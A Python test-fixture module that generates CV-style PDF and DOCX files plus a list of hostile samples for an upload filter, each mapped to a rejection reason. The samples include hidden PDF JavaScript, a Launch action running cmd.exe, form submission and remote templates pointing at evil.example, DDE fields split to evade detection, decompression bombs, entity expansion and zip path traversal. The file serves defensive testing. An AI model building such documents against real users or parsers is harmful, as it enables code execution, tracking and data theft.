"""Files as students send them, and as attackers would: all made here, none kept."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name

TEXT = "Jane Doe studies chip cooling and looks for an internship"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pdf(
    text: str = TEXT,
    *,
    pages: int = 1,
    padding: int = 0,
    change: Callable[[pikepdf.Pdf], None] | None = None,
    **save: object,
) -> bytes:
    """Return a PDF with text on each page; `padding` is bytes that do not compress."""
    import random

    with pikepdf.new() as made:
        for _ in range(pages):
            font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
            content = f"BT /F1 12 Tf 60 780 Td ({text}) Tj ET".encode()
            page = Dictionary(
                Type=Name.Page,
                MediaBox=[0, 0, 595, 842],
                Resources=Dictionary(Font=Dictionary(F1=font)),
                Contents=made.make_stream(content),
            )
            made.pages.append(pikepdf.Page(page))
        if padding:
            noise = random.Random(7).randbytes(padding)
            made.pages[0].obj["/PieceInfo"] = made.make_stream(noise)
        if change:
            change(made)
        target = io.BytesIO()
        made.save(target, deterministic_id="encryption" not in save, **save)
        return target.getvalue()


def picture_pdf() -> bytes:
    """Return a PDF that is a scan: one picture, no text."""

    def paint(made: pikepdf.Pdf) -> None:
        image = made.make_stream(bytes(64 * 64))
        image.Type, image.Subtype = Name.XObject, Name.Image
        image.Width = image.Height = 64
        image.ColorSpace, image.BitsPerComponent = Name.DeviceGray, 8
        page = made.pages[0]
        page.obj.Resources = Dictionary(XObject=Dictionary(I=made.make_indirect(image)))
        page.obj.Contents = made.make_stream(b"q 400 0 0 400 50 300 cm /I Do Q")

    return pdf(change=paint)


def docx(
    text: str = TEXT,
    *,
    more: dict[str, bytes] | None = None,
    relations: str = "",
    body: str = "",
    word: str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
    main: str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
) -> bytes:
    """Return a DOCX with one paragraph, further members, relations and body XML."""
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    members = {
        "[Content_Types].xml": (
            f'<Types xmlns="{package}/content-types"><Default Extension="xml"'
            f' ContentType="application/xml"/><Override PartName="/word/document.xml"'
            f' ContentType="{main}"/></Types>'
        ).encode(),
        "_rels/.rels": (
            f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1"'
            f' Type="{office}/officeDocument" Target="word/document.xml"/></Relationships>'
        ).encode(),
        "word/document.xml": (
            f'<w:document xmlns:w="{word}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p>'
            f"{body}</w:body></w:document>"
        ).encode(),
        "word/_rels/document.xml.rels": (
            f'<Relationships xmlns="{package}/relationships">'
            f"{relations.replace('OFFICE', office)}</Relationships>"
        ).encode(),
        **(more or {}),
    }
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return target.getvalue()


def relation(kind: str, target: str, *, mode: str = "External") -> str:
    return f'<Relationship Id="x" Type="OFFICE/{kind}" Target="{target}" TargetMode="{mode}"/>'


def _root(**keys: object) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        for key, value in keys.items():
            made.Root[f"/{key}"] = value

    return change


def _link(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    """Put a link on the first page whose action is written inside the annotation itself."""

    def change(made: pikepdf.Pdf) -> None:
        note = Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), A=action
        )
        made.pages[0].obj["/Annots"] = Array([note])

    return change


def _attach(made: pikepdf.Pdf) -> None:
    made.attachments["evil.exe"] = b"MZ" + bytes(100)


def _outside(**keys: object) -> Callable[[pikepdf.Pdf], None]:
    """Put a stream with these keys into the file."""

    def change(made: pikepdf.Pdf) -> None:
        stream = made.make_stream(b"x")
        for key, value in keys.items():
            stream[f"/{key}"] = value
        made.pages[0].obj["/PieceInfo"] = stream

    return change


def _plain_pdf(catalog: bytes) -> bytes:
    """Return a PDF written by hand, with more in its catalog as no library would write it."""
    content = f"BT /F1 12 Tf 60 780 Td ({TEXT}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    made = b"%PDF-1.7\n"
    places = []
    for number, thing in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, thing)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return made + (
        b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R >>\n"
        b"startxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table, len(objects) + 1, len(made))
    )


def _revised() -> bytes:
    """Return a harmless PDF and, appended, a revision whose catalog runs a script."""
    first = _plain_pdf(b"")
    place = len(first)
    catalog = (
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R"
        b" /OpenAction << /S /JavaScript /JS (1) >> >>\nendobj\n"
    )
    return (
        first
        + catalog
        + (
            b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\n"
            b"startxref\n%d\n%%%%EOF\n"
            % (place, int(first.split(b"startxref\n")[1].split()[0]), place + len(catalog))
        )
    )


def _deep_script(made: pikepdf.Pdf) -> None:
    """Hide a script in a dictionary in an array in a dictionary, none an object of its own."""
    inner = Dictionary(X=Array([Dictionary(Y=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))]))
    made.pages[0].obj["/PieceInfo"] = inner


def _script(text: str = "app.alert(1)") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=text)


def _bomb() -> bytes:
    """Return a PDF whose stream unpacks to 150 MB through filters laid over each other."""
    import zlib

    packed = zlib.compress(zlib.compress(bytes(150_000_000), 9), 9)

    def change(made: pikepdf.Pdf) -> None:
        stream = made.make_stream(packed)
        stream.Filter = Array([Name.FlateDecode, Name.FlateDecode])
        made.pages[0].obj["/Contents"] = stream

    return pdf(change=change, compress_streams=False, recompress_flate=False)


def _docx_bomb() -> bytes:
    return docx(more={"word/media/a.png": bytes(200_000_000)})


def _many_members() -> bytes:
    return docx(more={f"word/media/{i}.xml": b"<a/>" for i in range(2000)})


def _entities() -> bytes:
    lol = "".join(f'<!ENTITY l{i} "{"&l" + str(i - 1) + ";" * 1}">' for i in range(1, 10))
    return docx(more={"word/settings.xml": f'<!DOCTYPE x [<!ENTITY l0 "ha">{lol}]><x/>'.encode()})


def _swapped(name: bytes, other: bytes, source: bytes) -> bytes:
    assert len(name) == len(other)
    return source.replace(name, other)


def hostile() -> dict[str, tuple[Callable[[], bytes], str]]:
    """Return name → (how to make it, why it is refused)."""
    return {
        "nothing": (lambda: b"", "empty"),
        "text": (lambda: b"I am Jane Doe and this is my CV.\n" * 50, "type"),
        "html": (lambda: b"<!doctype html><script>alert(1)</script>", "type"),
        "svg": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "type"),
        "exe": (lambda: b"MZ" + bytes(5000), "type"),
        "zip": (lambda: _zip({"a.txt": b"x"}), "type"),
        "html-pdf polyglot": (lambda: b"<html><script>alert(1)</script>\n" + pdf(), "type"),
        "zip-pdf polyglot": (lambda: docx() + pdf(), "damaged"),
        "only the header": (lambda: b"%PDF-1.7\n", "damaged"),
        "cut in the middle": (lambda: pdf(padding=5000)[:3000], "damaged"),
        "cut near the end": (lambda: pdf(padding=5000)[:-40], "damaged"),
        "noise after the header": (lambda: b"%PDF-1.7\n" + bytes(range(256)) * 50, "damaged"),
        "old word": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000), "old-word"),
        "password": (lambda: pdf(encryption=pikepdf.Encryption(user="u", owner="o")), "password"),
        "owner password": (lambda: pdf(encryption=pikepdf.Encryption(owner="o")), "password"),
        "open action": (lambda: pdf(change=_root(OpenAction=_script())), "script"),
        "names of scripts": (
            lambda: pdf(change=_root(Names=Dictionary(JavaScript=Dictionary(Names=Array([]))))),
            "script",
        ),
        "inline script": (lambda: pdf(change=_deep_script), "script"),
        "link with script": (lambda: pdf(change=_link(_script())), "script"),
        "second action": (
            lambda: pdf(change=_link(Dictionary(S=Name.GoTo, D="x", Next=Array([_script()])))),
            "script",
        ),
        "launch": (lambda: pdf(change=_link(Dictionary(S=Name.Launch, F="cmd.exe"))), "action"),
        "page action": (
            lambda: pdf(change=lambda p: p.pages[0].obj.__setitem__("/AA", Dictionary())),
            "action",
        ),
        "form that sends": (
            lambda: pdf(change=_link(Dictionary(S=Name.SubmitForm, F="https://evil.example"))),
            "action",
        ),
        "remote file": (
            lambda: pdf(change=_link(Dictionary(S=Name.GoToR, F="//evil.example/a"))),
            "action",
        ),
        "script in a link": (
            lambda: pdf(change=_link(Dictionary(S=Name.URI, URI="java\tscript:alert(1)"))),
            "link",
        ),
        "file in a link": (
            lambda: pdf(change=_link(Dictionary(S=Name.URI, URI="file:///etc/passwd"))),
            "link",
        ),
        "attachment": (lambda: pdf(change=_attach), "attachment"),
        "script in a name of hexadecimal digits": (
            lambda: _plain_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
            "script",
        ),
        "script in a compressed object": (
            lambda: pdf(
                change=lambda p: p.Root.__setitem__("/OpenAction", p.make_indirect(_script())),
                object_stream_mode=pikepdf.ObjectStreamMode.generate,
            ),
            "script",
        ),
        "script in a later revision": (_revised, "script"),
        "bytes of another file": (
            lambda: pdf(change=_outside(F="//evil.example/share"), compress_streams=False),
            "external-pdf",
        ),
        "page of another file": (
            lambda: pdf(change=_outside(Ref=Dictionary(F="//evil.example/a.pdf", Page=0))),
            "external-pdf",
        ),
        "postscript": (
            lambda: pdf(change=_outside(Type=Name.XObject, Subtype=Name.PS)),
            "script",
        ),
        "base of all links": (
            lambda: pdf(change=_root(URI=Dictionary(Base="file://evil.example/"))),
            "link",
        ),
        "xfa": (lambda: pdf(change=_root(AcroForm=Dictionary(XFA=Array([])))), "script"),
        "sixty pages": (lambda: pdf(pages=60), "too-long"),
        "pdf bomb": (_bomb, "bomb"),
        "docx bomb": (_docx_bomb, "bomb"),
        "two thousand members": (_many_members, "bomb"),
        "entities": (_entities, "damaged"),
        "empty macros": (lambda: docx(more={"word/vbaProject.bin": b""}), "macro"),
        "macro content": (
            lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
            "macro",
        ),
        "embedded object": (
            lambda: docx(more={"word/embeddings/oleObject1.bin": b"x"}),
            "attachment",
        ),
        "outside template": (
            lambda: docx(relations=relation("attachedTemplate", "https://evil.example/t.dotm")),
            "external",
        ),
        "outside picture": (
            lambda: docx(relations=relation("image", "https://evil.example/track.png")),
            "external",
        ),
        "outside html": (
            lambda: docx(relations=relation("aFChunk", "x.html", mode="Internal")),
            "attachment",
        ),
        "script in a docx link": (
            lambda: docx(relations=relation("hyperlink", "javascript:alert(1)")),
            "link",
        ),
        "dde": (
            lambda: docx(body="<w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>"),
            "external",
        ),
        "dde in two runs": (lambda: docx(body=_field(_code("DD"), _code("EAUTO cmd"))), "external"),
        "dde around a field": (
            lambda: docx(body=_field(_code("DD"), _field(_code("SET a b")), _code("E cmd"))),
            "external",
        ),
        "dde in numbers": (lambda: docx(body=_field(_field(_code("QUOTE 68 68 69")))), "external"),
        "dde in the strict dialect": (
            lambda: docx(body=_code("DDE cmd"), word=STRICT),
            "external",
        ),
        "dde in a simple field": (
            lambda: docx(body='<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>'),
            "external",
        ),
        "link to a sheet": (
            lambda: docx(body=_field(_code("LINK Excel.Sheet.8 //evil.example/a"))),
            "external",
        ),
        "dde in a part of another place": (
            lambda: docx(more={"other/x.xml": _part(_code("DDE cmd"))}),
            "external",
        ),
        "part of another ending": (
            lambda: docx(more={"word/header1.dat": _part(_code("DDE cmd"))}),
            "attachment",
        ),
        "zip inside": (lambda: docx(more={"word/media/a.zip": _zip({"a": b"x"})}), "attachment"),
        "alternative chunk": (lambda: docx(body='<w:altChunk r="x"/>', word=STRICT), "attachment"),
        "another main document": (
            lambda: docx(more={"_rels/.rels": _root_relation("evil/document.xml")}),
            "damaged",
        ),
        "add-in": (
            lambda: docx(relations=relation("webextensiontaskpanes", "a.xml", mode="Internal")),
            "macro",
        ),
        "picture that a shape loads": (
            lambda: docx(
                body='<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="//evil.example/a"/>'
            ),
            "external",
        ),
        "script in a picture": (
            lambda: docx(more={"word/media/a.svg": b"<svg><script>alert(1)</script></svg>"}),
            "macro",
        ),
        "path in a member": (lambda: docx(more={"word/../../etc/x": b"x"}), "damaged"),
        "encrypted member": (_encrypted_member, "password"),
        "two members of one name": (_twins, "damaged"),
        "wrong checksum": (
            lambda: _swapped(TEXT.encode(), TEXT.upper().encode(), _stored()),
            "damaged",
        ),
        "docx cut": (lambda: docx()[:-30], "damaged"),
    }


STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"


def _code(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def _field(*parts: str) -> str:
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return begin + "".join(parts) + end


def _part(body: str) -> bytes:
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return f'<w:hdr xmlns:w="{word}">{body}</w:hdr>'.encode()


def _root_relation(target: str) -> bytes:
    package = "http://schemas.openxmlformats.org/package/2006"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1"'
        f' Type="{office}/officeDocument" Target="{target}"/></Relationships>'
    ).encode()


def _zip(members: dict[str, bytes], kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", kind) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return target.getvalue()


def _stored() -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx())) as archive:
        return _zip({n: archive.read(n) for n in archive.namelist()}, zipfile.ZIP_STORED)


def _encrypted_member() -> bytes:
    content = bytearray(docx())
    place = content.find(b"PK\x01\x02")
    while place >= 0:
        content[place + 8] |= 1
        place = content.find(b"PK\x01\x02", place + 4)
    return bytes(content)


def _twins() -> bytes:
    import warnings

    target = io.BytesIO(docx())
    with warnings.catch_warnings(), zipfile.ZipFile(target, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("word/Document.xml", b"<evil/>")
    return target.getvalue()
